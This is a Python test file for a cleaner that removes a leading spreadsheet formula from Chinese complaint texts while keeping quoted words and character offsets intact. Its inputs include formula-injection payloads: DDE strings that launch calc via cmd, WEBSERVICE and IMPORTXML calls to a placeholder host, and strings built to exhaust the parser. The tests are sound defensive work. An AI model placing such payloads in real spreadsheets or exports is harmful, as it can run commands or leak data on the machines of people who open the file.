"""A formula at the head of a cell is not read, what stands in its quotes is, and offsets hold."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from data.clean import clean
from data.formula import without_formula

MATTER = "巷口路灯坏了三个月,报了两次没人来修。"
PIECES = st.sampled_from(
    "= + - @ HYPERLINK( SUM( A1 : A9 ) , \" “ ” 点击 http://x cmd|' /C '!A0 & 路灯坏了 没人修 3号楼".split()
)


def read(text: str) -> str:
    return without_formula(clean(text)).text


@pytest.mark.parametrize(
    "head",
    [
        '=HYPERLINK("http://x","点击")', "'=HYPERLINK(\"http://x\",\"点击查看附件照片\")\n", "=SUM(A1:A9)",
        '=HYPERLINK("http://x","点击查看")&', "＝ＨＹＰＥＲＬＩＮＫ（＂ｈｔｔｐ：／／ｘ＂，＂点击＂）",
        "=HYPERLINK(“http://x”,“点击”)", '=IF(A1>0,"是","否") ', '=WEBSERVICE("http://x/?"&A1)',
        "=cmd|'/C calc'!A0 ", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1+cmd|' /C calc'!A0 ",
        '+HYPERLINK("http://x","点击")', '-IMPORTXML("http://x","//a")', "=NOW()",
        '=HYPERLINK("http://x","点击")=HYPERLINK("http://x","点击")',
    ],
)  # fmt: skip
def test_a_formula_in_front_changes_nothing(head: str) -> None:
    assert read(head + MATTER) == MATTER


@pytest.mark.parametrize(
    "text",
    [
        MATTER, "", "=", "=====" + MATTER, "=1+1 " + MATTER, "+86 13800138000," + MATTER, "-1 楼" + MATTER,
        "@领导 " + MATTER, "-KTV(24h)夜里太吵", "=KTV(某店)夜里太吵", "=A1&" + MATTER, '="' + MATTER + '"',
        '=HYPERLINK("http://x","点击' + MATTER, "=SUM(A1:A9" + MATTER, MATTER + '=HYPERLINK("http://x","点击")',
    ],
)  # fmt: skip
def test_what_is_no_formula_at_the_head_is_read_as_it_stands(text: str) -> None:
    assert read(text) == clean(text).text


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ('=HYPERLINK("http://x","村支书吃低保")' + MATTER, "村支书吃低保\n" + MATTER),
        ('=CONCATENATE("巷口路灯","坏了三个月")', "巷口路灯坏了三个月"),
        ('=HYPERLINK("http://x","点击")', ""),
        ("=SUM(A1:A9)+3号楼停水", "+3号楼停水"),
    ],
)
def test_words_are_not_lost_with_the_formula(text: str, left: str) -> None:
    assert read(text) == left


def test_offsets_point_into_the_text_as_received() -> None:
    text = '\u200b＝HYPERLINK("http://x","村支书吃低保")&' + MATTER
    found = without_formula(clean(text))
    for words in ("村支书吃低保", "路灯坏了三个月"):
        at = found.text.index(words)
        start, end = found.original_span(at, at + len(words))
        assert text[start:end] == words


@given(st.lists(PIECES, max_size=12).map("".join))
def test_any_text_keeps_its_offsets_and_its_words(text: str) -> None:
    before = clean(text)
    found = without_formula(before)

    assert len(found.offsets) == len(found.text) + 1 == len(found.ends) + 1
    assert (found.offsets[:-1] < found.ends).all()
    assert found.text.count("路灯坏了") == before.text.count("路灯坏了")
    assert [text[start] for start in found.offsets[:-1] if text[start] in "路灯坏没修"] == [
        c for c in found.text if c in "路灯坏没修"
    ]


@pytest.mark.parametrize("piece", ["=SUM(", "=A1+", '="', "=cmd|'", "=SUM(A1)+", "=((((", '=A("x")&'])
def test_a_text_made_to_be_slow_is_not(piece: str) -> None:
    began = time.perf_counter()
    read(piece * (200_000 // len(piece)))

    assert time.perf_counter() - began < 2
